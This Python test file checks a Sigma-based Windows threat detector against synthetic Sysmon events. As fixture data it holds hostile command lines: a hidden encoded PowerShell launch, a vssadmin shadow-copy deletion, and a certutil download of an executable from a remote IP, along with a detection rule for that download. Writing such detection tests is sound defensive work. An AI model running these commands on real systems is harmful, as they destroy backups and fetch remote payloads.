"""The Sigma detector: built-in rules on archived Windows events -> alerts with kinds."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from mimamori.detect.base import DetectContext
from mimamori.detect.sigma import SigmaDetector, builtin_rules_dir, kind_of
from mimamori.sigma.rules import load_rules
from mimamori.sources.winlog import RecordBuilder, to_events

SYSMON = "Microsoft-Windows-Sysmon/Operational"
T0 = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


def _events(rows):
    b = RecordBuilder("pc.json")
    for i, r in enumerate(rows, 1):
        b.add({"Channel": SYSMON, "EventRecordID": i, "Computer": "PC-01", **r}, i, flavour="flat")
    return to_events(b.take().wide, "windows")


def _at(s: int) -> str:
    return (T0 + timedelta(seconds=s)).isoformat()


def test_office_to_powershell_and_shadow_copies_become_alerts_of_their_kinds() -> None:
    ev = _events([
        {"EventID": 1, "TimeCreated": _at(0), "ParentImage": "C:\\O\\WINWORD.EXE",
         "Image": "C:\\W\\powershell.exe", "CommandLine": "powershell -nop -w hidden -enc SQBFAFgA"},
        {"EventID": 1, "TimeCreated": _at(60), "Image": "C:\\W\\vssadmin.exe",
         "CommandLine": "vssadmin delete shadows /all /quiet"},
        {"EventID": 1, "TimeCreated": _at(90), "Image": "C:\\W\\notepad.exe", "CommandLine": "notepad"},
    ])  # fmt: skip
    alerts = SigmaDetector().detect(ev, DetectContext(tenant="t", batch_id="b1"))
    got = sorted((a.kind, a.severity, a.evidence["rule"], tuple(a.evidence["records"])) for a in alerts)
    assert got == [
        ("emotet", "high", "Office Application Starts a Script Interpreter", (1,)),
        ("emotet", "high", "PowerShell With an Encoded or Hidden Command", (1,)),
        ("ransomware", "critical", "Shadow Copies or Backups Deleted", (2,)),
    ]
    assert all(a.host == "PC-01" and "host:PC-01" in a.keys for a in alerts)
    assert len({a.dedup_key for a in alerts}) == 3


def test_mass_encryption_correlation_and_min_level() -> None:
    rows = [
        {"EventID": 11, "TimeCreated": _at(i * 5), "TargetFilename": f"C:\\D\\f{i}.xlsx.locked"}
        for i in range(25)
    ]
    alerts = SigmaDetector().detect(_events(rows), DetectContext(tenant="t", batch_id="b2"))
    by_rule = {a.evidence["rule"]: a for a in alerts}
    assert set(by_rule) == {"File Written With a Ransomware Extension", "Mass File Encryption"}
    assert by_rule["Mass File Encryption"].severity == "critical"
    assert by_rule["File Written With a Ransomware Extension"].event_count == 25
    only_high = SigmaDetector(min_level="high").detect(
        _events(rows), DetectContext(tenant="t", batch_id="b2")
    )
    assert [a.evidence["rule"] for a in only_high] == ["Mass File Encryption"]


def test_no_windows_events_no_work() -> None:
    from mimamori.events.schema import empty_events

    det = SigmaDetector()
    assert det.detect(empty_events(), DetectContext(tenant="t", batch_id="b")) == []
    assert det._ruleset is None  # rules are loaded on the first Windows batch only


def test_kind_mapping_from_data() -> None:
    rs = load_rules([builtin_rules_dir()])
    kinds = {r.title: kind_of(r) for r in rs.rules}
    assert kinds["Non-Mail Program Connects to an SMTP Port"] == "emotet"
    assert kinds["Ransom Note Written"] == "ransomware"  # by its ATT&CK tag t1486
    assert rs.failed == [] and len(rs.correlations) == 1


def test_a_release_installed_by_sigma_update_is_used_by_the_platform(tmp_path) -> None:
    """``mimamori sigma update`` puts rules in <data dir>/sigma-rules; the platform's detector
    loads them next to the built-in set (a rule of our own stands in for the release)."""
    from mimamori.config import Settings
    from mimamori.pipeline import Platform

    rules = tmp_path / "home" / "sigma-rules" / "rules" / "windows"
    rules.mkdir(parents=True)
    (rules / "certutil_download.yml").write_text(
        "title: Certutil Downloads a File\n"
        "id: 0b6e2f7c-4a51-4c1e-9a6d-5e2a7c9d1f33\n"
        "level: high\n"
        "logsource: {category: process_creation, product: windows}\n"
        "detection:\n"
        "  sel: {Image|endswith: '\\certutil.exe', CommandLine|contains: 'urlcache'}\n"
        "  condition: sel\n",
        encoding="utf-8",
    )
    ev = _events([
        {"EventID": 1, "TimeCreated": _at(0), "Image": "C:\\W\\certutil.exe",
         "CommandLine": "certutil -urlcache -f http://198.51.100.7/a.exe a.exe"},
    ])  # fmt: skip
    with Platform(Settings.load(tmp_path / "home")) as platform:
        (det,) = [d for d in platform.detectors if isinstance(d, SigmaDetector)]
        alerts = det.detect(ev, DetectContext(tenant="t", batch_id="b1"))
    assert [a.evidence["rule"] for a in alerts] == ["Certutil Downloads a File"]
    # without the installed release the built-in rules alone do not know this command
    assert SigmaDetector().detect(ev, DetectContext(tenant="t", batch_id="b1")) == []


def test_the_platform_keeps_its_compiled_rules_in_the_cache(tmp_path) -> None:
    """The first platform compiles the rules and stores them under <data dir>/cache/sigma;
    the next one (a restart) reads them from there and detects the same."""
    from mimamori.config import Settings
    from mimamori.pipeline import Platform

    ev = _events([
        {"EventID": 1, "TimeCreated": _at(0), "Image": "C:\\W\\vssadmin.exe",
         "CommandLine": "vssadmin delete shadows /all /quiet", "ParentImage": "C:\\W\\cmd.exe"},
    ])  # fmt: skip
    found = []
    for _ in range(2):
        with Platform(Settings.load(tmp_path / "home")) as platform:
            (det,) = [d for d in platform.detectors if isinstance(d, SigmaDetector)]
            found.append(
                [a.evidence["rule"] for a in det.detect(ev, DetectContext(tenant="t", batch_id="b"))]
            )
            assert list((tmp_path / "home" / "cache" / "sigma").glob("rules-*"))
    assert found[0] and found[0] == found[1]
